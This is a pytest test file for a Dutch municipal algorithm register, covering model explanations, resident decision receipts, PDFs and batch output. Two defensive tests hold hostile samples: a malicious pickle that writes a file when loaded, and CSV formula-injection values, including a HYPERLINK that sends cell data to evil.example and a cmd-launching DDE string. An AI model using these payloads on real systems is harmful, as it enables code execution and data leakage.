"""Residents' explanations: how it works, explain a decision, receipts, PDFs and the label."""
import io
import json
import logging
import pickle
from datetime import timedelta
from pathlib import Path

import pytest
from pypdf import PdfReader
from sqlmodel import select

from register.models import Algorithm, AlgorithmEvent, AlgorithmVersion
from register.models.accounts import utcnow
from register.models.explanation import DecisionReceipt, ModelVersion
from register.services import accounts, decisions
from register.services import algorithms as algos

from .samples import ARTEFACTS, WOZ_CASE, register


def stored_rows(session):
    session.expire_all()
    return {model.__name__: len(session.exec(select(model)).all())
            for model in (Algorithm, AlgorithmVersion, AlgorithmEvent, ModelVersion, DecisionReceipt)}


def test_registration_stores_the_figures_and_the_published_version_names_the_model(session, woz, client):
    model = session.exec(select(ModelVersion)).one()
    assert model.method == "tree" and len(model.sha256) == 64
    assert model.global_explanation["features"] and model.global_explanation["performance"]["rows"] > 0
    data = client.get(f"/algorithms/{woz.code}.json").get_json()
    assert data["model"]["sha256"] == model.sha256 and data["model"]["version"] == 1
    history = client.get(f"/algorithms/{woz.code}/history.json").get_json()["history"]["versions"]
    assert history[0]["changes"][-1]["field"] == "model_version"


def test_how_it_works_in_both_languages(client, woz):
    nl = client.get(f"/algorithms/{woz.code}/how-it-works")
    en = client.get(f"/algorithms/{woz.code}/how-it-works?lang=en")
    assert nl.status_code == en.status_code == 200
    assert "Wat het model bekijkt" in nl.get_data(as_text=True) and '<html lang="nl">' in nl.get_data(as_text=True)
    assert "What the model looks at" in en.get_data(as_text=True)
    assert "<svg" in en.get_data(as_text=True) and "<title" in en.get_data(as_text=True)
    data = client.get(f"/algorithms/{woz.code}/how-it-works.json").get_json()
    assert data["features"][0]["summary"] and data["model"]["sha256"]


def test_fairness_table_is_shown_for_a_model_with_protected_attributes(session, app, world, make_entry, client):
    from register.services import algorithms as algos

    entry = algos.create_entry(session=session, user=world.registrant_a, organisation=world.org_a,
                               data=make_entry(name="Slimme check", source_id="SC"))
    algos.submit(session=session, user=world.registrant_a, algorithm=entry)
    algos.approve(session=session, user=world.approver_a, algorithm=entry)
    register(session, app, entry, "slimme_check")
    data = client.get(f"/algorithms/{entry.code}/how-it-works.json?lang=en").get_json()
    assert data["fairness"] and any("four-fifths" in line for line in data["fairness_summary"])
    assert all(group["n"] >= 30 for table in data["fairness"] for group in table["groups"])


def test_the_explain_form_answers_in_place_and_stores_and_logs_nothing(session, client, woz, caplog):
    page = client.get(f"/algorithms/{woz.code}/explain").get_data(as_text=True)
    assert 'name="woonoppervlak"' in page and "Woonoppervlak" in page
    token = page.split('name="csrf_token" value="')[1].split('"')[0]
    before = stored_rows(session)
    case = dict(WOZ_CASE, woonoppervlak="137")
    with caplog.at_level(logging.DEBUG):
        answer = client.post(f"/algorithms/{woz.code}/explain", data=dict(case, csrf_token=token))
    html = answer.get_data(as_text=True)
    assert answer.status_code == 200
    assert "Het model schat de WOZ-waarde van uw woning op" in html and "137 m²" in html
    assert "Wat had de uitkomst veranderd" in html and "Bezwaar" in html
    assert stored_rows(session) == before
    assert "137" not in caplog.text and "centrum" not in caplog.text


def test_explain_form_errors_are_per_field(client, woz):
    page = client.get(f"/algorithms/{woz.code}/explain?lang=en").get_data(as_text=True)
    token = page.split('name="csrf_token" value="')[1].split('"')[0]
    response = client.post(f"/algorithms/{woz.code}/explain?lang=en",
                           data=dict(WOZ_CASE, woonoppervlak="veel", bouwjaar="3020", csrf_token=token))
    html = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'id="e-woonoppervlak"' in html and 'id="e-bouwjaar"' in html and 'href="#f-woonoppervlak"' in html


def test_explain_json_twin_answers_the_same(client, woz):
    response = client.post(f"/algorithms/{woz.code}/explain.json", json=WOZ_CASE)
    data = response.get_json()
    assert response.status_code == 200 and data["ok"] is True
    assert data["narrative"]["outcome"].startswith("Het model schat")
    assert abs(data["explanation"]["base_value"] + sum(data["explanation"]["contributions"].values())
               - data["explanation"]["output_value"]) < 1e-6 * max(1, abs(data["explanation"]["output_value"]))
    bad = client.post(f"/algorithms/{woz.code}/explain.json?lang=en", json=dict(WOZ_CASE, wijk="Atlantis"))
    assert bad.status_code == 422 and bad.get_json()["errors"][0]["field"] == "wijk"


def test_a_decision_receipt_from_the_api_opens_for_the_resident(session, client, woz, token_a):
    response = client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE, "case_ref": "2026-0042"},
                           headers=token_a)
    body = response.get_json()
    assert response.status_code == 201 and body["algorithm_code"] == woz.code and body["reference"].startswith("D-")
    path = body["url"].split("localhost")[1]
    token = path.split("/d/")[1]
    assert len(token) >= 22  # ≥ 128 bits
    page = client.get(path)
    html = page.get_data(as_text=True)
    assert page.status_code == 200 and "Het model schat de WOZ-waarde" in html and "bezwaar" in html.lower()
    assert page.headers["Referrer-Policy"] == "no-referrer" and "noindex" in page.headers["X-Robots-Tag"]
    receipt = session.exec(select(DecisionReceipt)).one()
    assert receipt.case_ref_hash and "2026-0042" not in json.dumps(receipt.model_dump(mode="json"))
    assert token not in json.dumps(receipt.model_dump(mode="json"))  # only a hash of the token is stored
    again = client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE, "case_ref": "2026-0042"},
                        headers=token_a).get_json()
    assert again["url"] == body["url"] and len(session.exec(select(DecisionReceipt)).all()) == 1


def test_tokens_of_one_receipt_never_open_another(client, woz, token_a):
    first = client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE}, headers=token_a).get_json()
    second = client.post(f"/api/v1/algorithms/{woz.code}/decisions",
                         json={"inputs": dict(WOZ_CASE, woonoppervlak="60")}, headers=token_a).get_json()
    one, two = first["url"].split("localhost")[1], second["url"].split("localhost")[1]
    assert one != two
    assert "60 m²" in client.get(two).get_data(as_text=True) and "60 m²" not in client.get(one).get_data(as_text=True)
    assert client.get(one[:-1] + ("A" if one[-1] != "A" else "B")).status_code == 404
    assert client.get("/d/" + "x" * 32).status_code == 404


def test_a_receipt_keeps_the_model_it_was_made_with(session, app, client, woz, token_a):
    first_sha = session.exec(select(ModelVersion)).one().sha256
    made = client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE}, headers=token_a).get_json()
    before = client.get(made["url"].split("localhost")[1] + ".json").get_json()
    retrained = retrain_woz(seed=99)
    register(session, app, woz, model=retrained)
    models = session.exec(select(ModelVersion).order_by(ModelVersion.number)).all()
    assert len(models) == 2 and models[1].sha256 != first_sha
    assert client.get(f"/algorithms/{woz.code}.json").get_json()["model"]["sha256"] == models[1].sha256
    after = client.get(made["url"].split("localhost")[1] + ".json").get_json()
    assert after["model"]["sha256"] == first_sha and after["model"]["version"] == 1
    assert after["answer"]["explanation"] == before["answer"]["explanation"]


def retrain_woz(seed: int) -> bytes:
    """A second WOZ model: the sample pipeline fitted again on a resample of the reference data."""
    import explain
    import pandas as pd
    from sklearn.base import clone

    loaded = explain.load_model(ARTEFACTS / "woz" / "model.skops")
    data = pd.read_csv(ARTEFACTS / "woz" / "reference.csv").sample(frac=1.0, replace=True, random_state=seed)
    model = clone(loaded.estimator).fit(data.drop(columns=["woz_waarde"]), data["woz_waarde"])
    return explain.model_bytes(model)


def test_expired_receipts_answer_410_and_purge_deletes_them(session, client, woz, token_a):
    made = client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE}, headers=token_a).get_json()
    client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": dict(WOZ_CASE, bouwjaar="2001")},
                headers=token_a)  # never opened
    receipts = session.exec(select(DecisionReceipt)).all()
    assert all(utcnow() + timedelta(days=390) < r.expires_at < utcnow() + timedelta(days=400) for r in receipts)
    for receipt in receipts:
        receipt.expires_at = utcnow() - timedelta(minutes=1)
        session.add(receipt)
    session.commit()
    gone = client.get(made["url"].split("localhost")[1])
    assert gone.status_code == 410 and "verwijderd" in gone.get_data(as_text=True)
    assert decisions.purge(session) == 2
    assert session.exec(select(DecisionReceipt)).all() == []
    assert client.get(made["url"].split("localhost")[1]).status_code == 404


def test_purge_command(runner, session, woz, client, token_a):
    client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE}, headers=token_a)
    assert "Deleted 0 expired" in runner.invoke(args=["purge"]).output


def test_receipt_pdf_names_the_model_sha256(session, client, woz, token_a):
    made = client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE}, headers=token_a).get_json()
    response = client.get(made["url"].split("localhost")[1] + ".pdf")
    assert response.status_code == 200 and response.headers["Content-Type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(response.data))
    text = " ".join(page.extract_text() for page in reader.pages).replace("\n", " ")
    sha = session.exec(select(ModelVersion)).one().sha256
    assert sha in text.replace(" ", "") and woz.code in text
    assert "/StructTreeRoot" in reader.trailer["/Root"]  # tagged for screen readers
    assert reader.trailer["/Root"]["/Lang"]


def test_explain_pdf_from_the_form(client, woz):
    page = client.get(f"/algorithms/{woz.code}/explain").get_data(as_text=True)
    token = page.split('name="csrf_token" value="')[1].split('"')[0]
    response = client.post(f"/algorithms/{woz.code}/explain.pdf", data=dict(WOZ_CASE, csrf_token=token))
    assert response.status_code == 200 and response.data.startswith(b"%PDF")


def test_api_tokens_of_another_organisation_get_403(session, app, client, woz, world):
    plain = accounts.create_api_token(session=session, user=world.registrant_b, organisation=world.org_b, name="b")[1]
    session.commit()
    headers = {"Authorization": f"Bearer {plain}"}
    before = stored_rows(session)
    assert client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE},
                       headers=headers).status_code == 403
    base = ARTEFACTS / "woz"
    upload = {"model": (io.BytesIO((base / "model.skops").read_bytes()), "model.skops"),
              "spec": (io.BytesIO((base / "spec.json").read_bytes()), "spec.json"),
              "reference": (io.BytesIO((base / "reference.csv").read_bytes()), "reference.csv")}
    assert client.post(f"/api/v1/algorithms/{woz.code}/models", data=upload, headers=headers,
                       content_type="multipart/form-data").status_code == 403
    assert stored_rows(session) == before


def test_a_pickle_upload_is_refused_with_a_reason_and_nothing_is_stored(session, app, client, auth, world, published,
                                                                         tmp_path):
    class Evil:
        def __reduce__(self):
            return (open, (str(tmp_path / "pwned"), "w"))

    auth.login(world.registrant_a.email)
    before = stored_rows(session)
    base = ARTEFACTS / "woz"
    response = auth.post(f"/portal/algorithms/{published.code}/models", {
        "model": (io.BytesIO(pickle.dumps(Evil())), "model.pkl"),
        "spec": (io.BytesIO((base / "spec.json").read_bytes()), "spec.json"),
        "reference": (io.BytesIO((base / "reference.csv").read_bytes()), "reference.csv")},
        form_url=f"/portal/algorithms/{published.code}/models", content_type="multipart/form-data")
    assert response.status_code == 422
    assert "skops" in response.get_data(as_text=True)
    assert not (tmp_path / "pwned").exists()
    assert stored_rows(session) == before
    assert not (Path(app.config["DATA_DIR"]) / "sha256").exists()


def test_a_model_from_the_portal_waits_for_approval(session, app, auth, world, published, client):
    auth.login(world.registrant_a.email)
    base = ARTEFACTS / "slimme_check"
    response = auth.post(f"/portal/algorithms/{published.code}/models", {
        "model": (io.BytesIO((base / "model.skops").read_bytes()), "model.skops"),
        "spec": (io.BytesIO((base / "spec.json").read_bytes()), "spec.json"),
        "reference": (io.BytesIO((base / "reference.csv").read_bytes()), "reference.csv")},
        form_url=f"/portal/algorithms/{published.code}/models", content_type="multipart/form-data")
    assert response.status_code == 303
    assert client.get(f"/algorithms/{published.code}.json").get_json()["model"] is None
    assert client.get(f"/algorithms/{published.code}/explain").status_code == 404


def test_label_badge_and_snippet(client, woz):
    svg = client.get(f"/algorithms/{woz.code}/label.svg")
    assert svg.status_code == 200 and svg.headers["Content-Type"].startswith("image/svg+xml")
    assert f"Bij dit besluit is een algoritme gebruikt — {woz.code} — uitleg" in svg.get_data(as_text=True)
    snippet = client.get(f"/algorithms/{woz.code}/label.json").get_json()["snippet"]
    assert f"/algorithms/{woz.code}" in snippet and woz.code in snippet


def test_batch_reports_bad_rows_by_line_and_rerunning_is_safe(runner, session, woz, tmp_path):
    cases = tmp_path / "cases.csv"
    header = list(WOZ_CASE) + ["case_ref"]
    rows = [dict(WOZ_CASE, case_ref="C-1"), dict(WOZ_CASE, woonoppervlak="nul", case_ref="C-2"),
            dict(WOZ_CASE, bouwjaar="1999", case_ref="C-3")]
    cases.write_text(",".join(header) + "\n" + "\n".join(",".join(r[h] for h in header) for r in rows) + "\n",
                     encoding="utf-8")
    out = tmp_path / "out.csv"
    result = runner.invoke(args=["decisions", "batch", "--algorithm", woz.code, str(cases), str(out)])
    assert result.exit_code == 1, result.output  # one row was refused (README: exit codes)
    assert "line 3: woonoppervlak" in result.output and "2 receipts written" in result.output
    first = out.read_text(encoding="utf-8")
    runner.invoke(args=["decisions", "batch", "--algorithm", woz.code, str(cases), str(out)])
    assert out.read_text(encoding="utf-8") == first
    assert len(session.exec(select(DecisionReceipt)).all()) == 2


def test_batch_output_never_turns_a_case_ref_into_a_spreadsheet_formula(runner, woz, tmp_path):
    """A case_ref is echoed into the output a clerk opens in a spreadsheet: it shows as text, never runs."""
    import csv

    refs = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+31 20 123", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "WOZ-2024-7"]  # the tab is trimmed on reading
    cases = tmp_path / "cases.csv"
    with cases.open("w", newline="", encoding="utf-8") as target:
        writer = csv.DictWriter(target, fieldnames=[*WOZ_CASE, "case_ref"])
        writer.writeheader()
        writer.writerows(dict(WOZ_CASE, case_ref=ref) for ref in refs)
        writer.writerow(dict(WOZ_CASE, woonoppervlak="nul", case_ref="=1+1"))  # a refused row echoes it too
    out = tmp_path / "out.csv"
    result = runner.invoke(args=["decisions", "batch", "--algorithm", woz.code, str(cases), str(out)])
    assert result.exit_code == 1, result.output
    with out.open(newline="", encoding="utf-8") as source:
        written = {row["line"]: row for row in csv.DictReader(source)}
    echoed = [written[str(line)]["case_ref"] for line in range(2, 9)]
    assert echoed[:5] == ["'" + ref.strip() for ref in [*refs[:4], "=1+1"]]
    assert echoed[5] == "WOZ-2024-7" and echoed[6] == "'=1+1"
    assert written["8"]["url"] == "" and written["8"]["error"]
    for row in written.values():
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize("state,nl,en", [
    ("archived", "Deze registratie is gearchiveerd", "This entry is archived: it is no longer used, so it cannot get"),
    ("retracted", "Deze registratie is uit het register teruggetrokken",
     "This entry has been withdrawn from the register, so it cannot get a new model.")])
def test_an_archived_or_retracted_entry_takes_no_new_model_anywhere(session, app, client, auth, runner, world,
                                                                     published, token_a, state, nl, en):
    algos.set_public_state(session=session, user=world.approver_a, algorithm=published, state=state,
                           reason="Niet meer in gebruik.")
    before = stored_rows(session)
    base = ARTEFACTS / "woz"

    def files():
        return {name: (io.BytesIO((base / file).read_bytes()), file)
                for name, file in (("model", "model.skops"), ("spec", "spec.json"), ("reference", "reference.csv"))}

    auth.login(world.registrant_a.email)
    portal = auth.post(f"/portal/algorithms/{published.code}/models", files(),
                       form_url=f"/portal/algorithms/{published.code}/models", content_type="multipart/form-data")
    assert portal.status_code == 422 and nl in portal.get_data(as_text=True)
    api = client.post(f"/api/v1/algorithms/{published.code}/models?lang=en", data=files(), headers=token_a,
                      content_type="multipart/form-data")
    assert api.status_code == 409 and en in api.get_json()["error"]
    cli = runner.invoke(args=["models", "register", "--algorithm", published.code, str(base / "model.skops"),
                              str(base / "spec.json"), str(base / "reference.csv")])
    assert cli.exit_code != 0 and en in cli.output
    with pytest.raises(algos.WorkflowError):
        algos.attach_model(session=session, user=world.registrant_a, algorithm=published, model_version_id=1)
    session.rollback()
    assert stored_rows(session) == before
    assert not (Path(app.config["DATA_DIR"]) / "sha256").exists()
    assert client.get(f"/algorithms/{published.code}.json").get_json().get("model") is None


def test_models_register_command_refuses_a_joblib_file(runner, woz, tmp_path):
    fake = tmp_path / "model.joblib"
    fake.write_bytes(b"\x80\x04not really")
    base = ARTEFACTS / "woz"
    result = runner.invoke(args=["models", "register", "--algorithm", woz.code, str(fake), str(base / "spec.json"),
                                 str(base / "reference.csv")])
    assert result.exit_code != 0 and "skops" in result.output


@pytest.mark.parametrize("lang,words", [("nl", ["Uitleg bij uw besluit", "Bezwaar maken"]),
                                        ("en", ["Explanation of your decision", "How to object"])])
def test_resident_pages_in_both_languages(client, woz, token_a, lang, words):
    made = client.post(f"/api/v1/algorithms/{woz.code}/decisions", json={"inputs": WOZ_CASE}, headers=token_a).get_json()
    receipt = client.get(made["url"].split("localhost")[1] + f"?lang={lang}").get_data(as_text=True)
    assert f'<html lang="{lang}">' in receipt and all(w in receipt for w in words)
    for page in (f"/algorithms/{woz.code}/explain", f"/algorithms/{woz.code}/label", f"/algorithms/{woz.code}"):
        html = client.get(f"{page}?lang={lang}").get_data(as_text=True)
        assert f'<html lang="{lang}">' in html
    label = client.get(f"/algorithms/{woz.code}/label?lang={lang}").get_data(as_text=True)
    assert ("Algoritmelabel" if lang == "nl" else "Algorithm label") in label
